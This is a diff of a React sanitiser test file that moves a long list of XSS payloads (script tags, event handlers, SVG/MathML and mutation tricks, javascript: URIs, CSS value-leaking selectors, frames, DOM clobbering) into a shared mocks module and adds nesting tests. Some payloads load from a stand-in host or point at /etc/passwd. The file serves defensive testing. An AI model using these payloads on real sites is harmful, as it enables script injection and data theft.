@@ -1,3 +1,4 @@
+import { attacks, IMG, type Payload, payloads, RUN, URL_ELSEWHERE } from '@gemas/mocks/payloads';
 import { flushSync } from 'react-dom';
 import { createRoot, type Root } from 'react-dom/client';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
@@ -11,211 +12,6 @@ declare global {
     pwned?: unknown;
   }
 }
-
-/** A host that does not exist: every request to it is observed. */
-const ELSEWHERE = 'elsewhere.invalid';
-const URL_ELSEWHERE = `https://${ELSEWHERE}/x`;
-const RUN = 'window.pwned=1';
-const RUN_TOP = 'top.pwned=1;parent.pwned=1;window.pwned=1';
-const IMG = `<img src=x onerror=${RUN}>`;
-
-type Payload = readonly [name: string, html: string];
-
-const scripts: readonly Payload[] = [
-  ['script', `<script>${RUN}</script>`],
-  ['script in capitals', `<ScRiPt>${RUN}</sCrIpT>`],
-  ['script from elsewhere', `<script src="${URL_ELSEWHERE}.js"></script>`],
-  ['module script', `<script type="module">${RUN}</script>`],
-  ['script within script', `<scr<script>ipt>${RUN}</scr</script>ipt>`],
-  ['script without end', `<script>${RUN}//`],
-  ['script with a slash', `<script/x>${RUN}</script/x>`],
-  ['import map', `<script type="importmap">{"imports":{"react":"${URL_ELSEWHERE}"}}</script>`],
-  ['script after a null', `<\u0000script>${RUN}</script>`],
-  ['script in a comment that ends early', `<!--><script>${RUN}</script>-->`],
-  ['script in a cdata section', `<![CDATA[<script>${RUN}</script>]]>`],
-];
-
-const handlers: readonly Payload[] = [
-  ['onerror', IMG],
-  ['onerror with slashes', `<img/src="x"/onerror=${RUN}>`],
-  ['onerror behind a grave accent', `<img src=\`x\` onerror=${RUN}>`],
-  ['onerror with a line break', `<img src=x onerror\n=\n"${RUN}">`],
-  ['onerror with entities', '<img src=x onerror="&#119;indow.pwned&#61;1">'],
-  ['onload', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RUN}>`],
-  ['onclick', `<p onclick=${RUN}>Toca</p>`],
-  ['onfocus at once', `<a href="#" autofocus tabindex=0 onfocus=${RUN}>a</a>`],
-  ['pointer events', `<div onpointerenter=${RUN} onpointerover=${RUN} onmouseover=${RUN}>a</div>`],
-  ['ontoggle', `<details open ontoggle=${RUN}><summary>a</summary></details>`],
-  ['onbeforetoggle', `<div popover id=p onbeforetoggle=${RUN}>a</div>`],
-  ['onanimationstart', `<p style="animation:x 1s" onanimationstart=${RUN}>a</p>`],
-  ['ontransitionend', `<p style="transition:all 1s" ontransitionend=${RUN}>a</p>`],
-  ['onscroll', `<div onscroll=${RUN} onscrollend=${RUN}>a</div>`],
-  ['marquee', `<marquee onstart=${RUN} loop=1>a</marquee>`],
-  ['body', `<body onload=${RUN} onpageshow=${RUN}>a</body>`],
-  ['video', `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`],
-  ['source', `<video><source src=x onerror=${RUN}></video>`],
-  ['content-visibility', `<p oncontentvisibilityautostatechange=${RUN}>a</p>`],
-];
-
-const namespaces: readonly Payload[] = [
-  ['svg onload', `<svg onload=${RUN}></svg>`],
-  ['svg script', `<svg><script>${RUN}</script></svg>`],
-  ['svg script by address', `<svg><script href="data:text/javascript,${RUN}" /></svg>`],
-  ['svg animate', `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`],
-  [
-    'svg link that turns',
-    `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
-  ],
-  ['svg set', `<svg><set attributeName=onmouseover to="${RUN}"/><rect width=9 height=9 /></svg>`],
-  ['svg foreignObject', `<svg><foreignObject>${IMG}</foreignObject></svg>`],
-  ['svg desc', `<svg><desc>${IMG}</desc></svg>`],
-  ['svg use', '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x" /></svg>'],
-  ['svg image', `<svg><image href="${URL_ELSEWHERE}.png" onerror=${RUN} /></svg>`],
-  ['svg feImage', `<svg><filter><feImage href="${URL_ELSEWHERE}.svg" /></filter></svg>`],
-  ['svg style', `<svg><style>@import "${URL_ELSEWHERE}.css";</style></svg>`],
-  ['mathml link', `<math href="javascript:${RUN}">a</math>`],
-  ['mathml xlink', `<math><mi xlink:href="javascript:${RUN}">a</mi></math>`],
-  [
-    'mathml annotation',
-    `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
-  ],
-  ['mathml action', `<math><maction actiontype="statusline#${URL_ELSEWHERE}">a</maction></math>`],
-];
-
-const mutations: readonly Payload[] = [
-  ['mglyph', `<math><mtext><table><mglyph><style><!--</style>${IMG.replace('<', '&lt;')}-->`],
-  [
-    'mglyph in a form',
-    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style>`,
-  ],
-  ['noscript title', `<noscript><p title="</noscript>${IMG}"></noscript>`],
-  ['style title', `<svg></p><style><a title="</style>${IMG}">`],
-  ['textarea', `<textarea><p title="</textarea>${IMG}">`],
-  ['title', `<title><a alt="</title>${IMG}">`],
-  ['xmp', `<xmp><p title="</xmp>${IMG}">`],
-  ['noembed', `<noembed><p title="</noembed>${IMG}">`],
-  ['noframes', `<noframes><p title="</noframes>${IMG}">`],
-  ['iframe text', `<iframe><p title="</iframe>${IMG}">`],
-  ['plaintext', `<plaintext><p title="</plaintext>${IMG}">`],
-  ['comment in an attribute', `<p alt="--><script>${RUN}</script>">a</p>`],
-  ['comment ended by a bang', `<!-- --!>${IMG} -->`],
-  ['comment in svg', `<svg><!--</svg>${IMG}-->`],
-  ['select', `<select><template><style></select>${IMG}</style></template></select>`],
-  ['table foster parent', `<table><svg><td><style></table>${IMG}</style></td></svg></table>`],
-  ['nested past the limit', `${'<div>'.repeat(600)}<svg><style><a id="</style>${IMG}">`],
-  ['grave accent that comes back', `<img alt="\`\`onerror=${RUN}" src=x>`],
-  ['entity that comes back', '<p>&lt;img src=x onerror=window.pwned=1&gt;</p>'],
-];
-
-const styles: readonly Payload[] = [
-  ['style attribute', '<p style="position:fixed;inset:0;z-index:9999">a</p>'],
-  ['style attribute with an address', `<p style="background:url(${URL_ELSEWHERE}.png)">a</p>`],
-  ['style attribute with expression', `<p style="width:expression(${RUN})">a</p>`],
-  ['style attribute with javascript', `<p style="background:url(javascript:${RUN})">a</p>`],
-  ['style attribute with binding', `<p style="-moz-binding:url(${URL_ELSEWHERE}.xml#x)">a</p>`],
-  ['style', '<style>body{display:none}</style>'],
-  ['style with import', `<style>@import url(${URL_ELSEWHERE}.css);</style>`],
-  [
-    'style that reads',
-    `<style>input[value^="a"]{background:url(${URL_ELSEWHERE}?a)}</style><input value=abc>`,
-  ],
-  ['style with a font', `<style>@font-face{font-family:x;src:url(${URL_ELSEWHERE}.woff2)}</style>`],
-  ['old background', `<table background="${URL_ELSEWHERE}.png"><tr><td>a</td></tr></table>`],
-  ['class', '<p class="overlay">a</p>'],
-];
-
-const addresses: readonly Payload[] = [
-  ['javascript', `<a href="javascript:${RUN}">a</a>`],
-  ['javascript in capitals', `<a href="JaVaScRiPt:${RUN}">a</a>`],
-  ['javascript with entities', `<a href="&#106;&#x61;vascript&colon;${RUN}">a</a>`],
-  ['javascript with a tab', `<a href="java\tscript:${RUN}">a</a>`],
-  ['javascript with a tab entity', `<a href="java&Tab;script:${RUN}">a</a>`],
-  ['javascript with line breaks', `<a href="ja\nva\rscript\n:${RUN}">a</a>`],
-  ['javascript after a blank', `<a href=" \u0001\u001f javascript:${RUN}">a</a>`],
-  ['javascript after a hard blank', `<a href="\u00a0javascript:${RUN}">a</a>`],
-  ['javascript after a zero width', `<a href="\u200bjavascript:${RUN}">a</a>`],
-  ['javascript of an image', `<img src="javascript:${RUN}">`],
-  ['javascript as a web address', `<a href="javascript://x/%0a${RUN}">a</a>`],
-  ['data', `<a href="data:text/html,<script>${RUN_TOP}</script>">a</a>`],
-  [
-    'data in base64',
-    '<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg">a</a>',
-  ],
-  ['vbscript', '<a href="vbscript:msgbox(1)">a</a>'],
-  ['blob', '<a href="blob:https://elsewhere.invalid/1">a</a>'],
-  ['file', '<a href="file:///etc/passwd">a</a>'],
-  ['view-source', `<a href="view-source:${URL_ELSEWHERE}">a</a>`],
-  ['intent', '<a href="intent://x#Intent;scheme=http;end">a</a>'],
-  ['ping', `<a href="#" ping="${URL_ELSEWHERE}">a</a>`],
-  ['srcset', `<img src="" srcset="${URL_ELSEWHERE}.png 1x">`],
-  ['area', `<map name=m><area href="javascript:${RUN}"></map>`],
-  ['image with javascript in xlink', `<a xlink:href="javascript:${RUN}">a</a>`],
-];
-
-const shadows: readonly Payload[] = [
-  ['template', `<template>${IMG}</template>`],
-  ['declarative shadow root', `<div><template shadowrootmode="open">${IMG}</template></div>`],
-  ['slot', `<slot name=x onslotchange=${RUN}>a</slot>`],
-  ['slot attribute', '<p slot="x" part="y" is="z-p" exportparts="y">a</p>'],
-  ['custom element', `<x-evil onclick=${RUN}>a</x-evil>`],
-];
-
-const forms: readonly Payload[] = [
-  ['form', `<form action="${URL_ELSEWHERE}"><input name=nip autofocus onfocus=${RUN}></form>`],
-  ['button', `<button formaction="javascript:${RUN}">a</button>`],
-  ['image input', `<input type=image src="${URL_ELSEWHERE}.png" onerror=${RUN}>`],
-  ['hidden input', `<input type=hidden popover oncontentvisibilityautostatechange=${RUN}>`],
-  ['select', `<select autofocus onfocus=${RUN}><option>a</select>`],
-  ['textarea', `<textarea autofocus onfocus=${RUN}>a</textarea>`],
-  ['editable', `<p contenteditable onbeforeinput=${RUN} accesskey=x>a</p>`],
-  ['isindex', `<isindex action="javascript:${RUN}" type=image>`],
-];
-
-const frames: readonly Payload[] = [
-  ['iframe', `<iframe src="${URL_ELSEWHERE}"></iframe>`],
-  ['iframe with javascript', `<iframe src="javascript:${RUN_TOP}"></iframe>`],
-  ['iframe with srcdoc', `<iframe srcdoc="<script>${RUN_TOP}</script>"></iframe>`],
-  ['frameset', `<frameset onload=${RUN}><frame src="${URL_ELSEWHERE}"></frameset>`],
-  ['object', `<object data="${URL_ELSEWHERE}" onerror=${RUN}></object>`],
-  ['object with data', `<object data="data:text/html,<script>${RUN_TOP}</script>"></object>`],
-  ['embed', `<embed src="javascript:${RUN_TOP}">`],
-  ['applet', `<applet code="${URL_ELSEWHERE}"></applet>`],
-  ['base', `<base href="https://${ELSEWHERE}/"><a href="ayuda">a</a>`],
-  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${URL_ELSEWHERE}">`],
-  ['meta refresh with javascript', `<meta http-equiv="refresh" content="0;javascript:${RUN}">`],
-  ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`],
-  ['stylesheet', `<link rel=stylesheet href="${URL_ELSEWHERE}.css" onerror=${RUN}>`],
-  ['preload', `<link rel=preload as=script href="${URL_ELSEWHERE}.js">`],
-  [
-    'prefetch',
-    `<link rel=dns-prefetch href="//${ELSEWHERE}"><link rel=prerender href=//x.invalid>`,
-  ],
-  ['portal', `<portal src="${URL_ELSEWHERE}"></portal><fencedframe></fencedframe>`],
-  ['video poster', `<video poster="${URL_ELSEWHERE}.png" src="${URL_ELSEWHERE}.mp4"></video>`],
-];
-
-const clobbering: readonly Payload[] = [
-  ['an id of window', '<a id="pwnedConfig" href="#a">a</a><a id="pwnedConfig">b</a>'],
-  ['an id of the page', '<div id="root">a</div><div id="main">a</div>'],
-  ['a name of document', '<img name="cookie"><img name="getElementById"><img name="body">'],
-  ['the names of a form', '<form id=f><input name=attributes><input name=childNodes></form>'],
-  ['the parent of a form', '<form><input name=parentNode><input name=nodeName></form>'],
-  ['the name of a frame', `<iframe name=pwnedConfig srcdoc="<a id=x>"></iframe>`],
-  ['prototype', '<a id="__proto__" name="constructor">a</a>'],
-];
-
-const attacks = {
-  scripts,
-  handlers,
-  namespaces,
-  mutations,
-  styles,
-  addresses,
-  shadows,
-  forms,
-  frames,
-  clobbering,
-};
 
 /** Elements that run, style, send requests, embed, collect or hide; any element of another namespace counts too. */
 const FORBIDDEN_ELEMENTS = new Set(
@@ -249,14 +45,20 @@ function show(html: string): void {
   flushSync(() => root.render(<RichText html={html} field="Faq.answer" />));
 }
 
+/** Our own elements around each text, which have a class for their styles. */
+function ownElements(root: Element): Element[] {
+  return [...root.children].flatMap((child) =>
+    child.hasAttribute('class') ? [child] : ownElements(child),
+  );
+}
+
 /** An element's namespace, name and attributes: everything but its text. */
-function excessOf(element: Element): string[] {
+function excessOf(element: Element, isOwn: boolean): string[] {
   const found: string[] = [];
   if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml')
     found.push(`${element.namespaceURI}`);
   if (FORBIDDEN_ELEMENTS.has(element.localName)) found.push(element.localName);
-  // Our own element around each text has a class for its styles.
-  if (element.parentElement?.closest('[class]') === null) return found;
+  if (isOwn) return found;
   return [
     ...found,
     ...element.getAttributeNames().filter((name) => FORBIDDEN_ATTRIBUTES.test(name)),
@@ -265,7 +67,9 @@ function excessOf(element: Element): string[] {
 
 function expectOnlyText(): void {
   // One assertion for all: a text may hold tens of thousands of elements.
-  expect([...container.querySelectorAll('*')].flatMap(excessOf)).toEqual([]);
+  const own = new Set(ownElements(container));
+  const all = [...container.querySelectorAll('*')];
+  expect(all.flatMap((element) => excessOf(element, own.has(element)))).toEqual([]);
   for (const link of container.querySelectorAll<HTMLAnchorElement>('a[href]')) {
     expect(SAFE_SCHEMES, link.href).toContain(new URL(link.href).protocol);
     expect(link.target).toBe('_blank');
@@ -346,34 +150,32 @@ describe('what would tell of a hole', () => {
   });
 
   it('is tried often enough', () => {
-    expect(Object.values(attacks).flat().length).toBeGreaterThanOrEqual(60);
+    expect(new Set(payloads.map(([, html]) => html)).size).toBeGreaterThanOrEqual(250);
   });
 });
 
-describe.each(Object.entries(attacks))('html with %s', (_kind, payloads) => {
-  it.each(payloads)('%s', async (_name, html) => {
+describe.each(Object.entries(attacks))('html with %s', (_kind, kind) => {
+  it.each(kind)('%s', (_name, html) => {
     show(`<p>Antes</p>${html}`);
     expect(container.textContent).toContain('Antes');
     expectOnlyText();
     provoke();
-    await rest(80);
     expectNothingHappened();
-    expectOnlyText();
   });
 });
 
+// What needs a moment to run has it here, where one moment does for all.
 it('all of it side by side, for longer', async () => {
-  const all = Object.values(attacks).flat();
   flushSync(() =>
     root.render(
       <div>
-        {all.map(([, html]) => (
-          <RichText key={html} html={`<p>Antes</p>${html}`} field="Faq.answer" />
+        {payloads.map(([name, html]) => (
+          <RichText key={`${name} ${html}`} html={`<p>Antes</p>${html}`} field="Faq.answer" />
         ))}
       </div>,
     ),
   );
-  expect(container.textContent?.match(/Antes/g)?.length).toBeGreaterThanOrEqual(all.length);
+  expect(container.textContent?.match(/Antes/g)?.length).toBeGreaterThanOrEqual(payloads.length);
   provoke();
   await rest(1500);
   expectNothingHappened();
@@ -445,6 +247,29 @@ describe('200 kB', () => {
     await rest(80);
     expectNothingHappened();
     expectOnlyText();
+  });
+});
+
+describe('html nested beyond what browsers render', () => {
+  it.each<Payload>([
+    ['one element in itself', '<b>'.repeat(1001)],
+    ['several in turn', '<b><i><div>'.repeat(400)],
+    ['beside end tags of nothing', '<b></x></x></x>'.repeat(1001)],
+    ['beside those that end by themselves', '<p><b><br>'.repeat(1001)],
+  ])('%s: its words are left', (_name, html) => {
+    show(`<p>Antes &lt;b&gt;</p>${html}<h2>Después</h2>`);
+    const lines = [...container.querySelectorAll('p')].map(({ textContent }) => textContent);
+    expect(lines).toEqual(['Antes <b>', 'Después']);
+    expect(container.querySelectorAll('b, i, div div, h2')).toHaveLength(0);
+  });
+
+  it.each<Payload>([
+    ['long, but flat', '<p>Uno <b>dos</b><br>'.repeat(5000)],
+    ['a list without end tags', `<ul>${'<li>Uno <b>dos</b>'.repeat(5000)}</ul>`],
+    ['deep, but not too deep', `${'<b>'.repeat(900)}dos`],
+  ])('%s: it stays', (_name, html) => {
+    show(html);
+    expect(container.querySelector('b')).not.toBeNull();
   });
 });
 
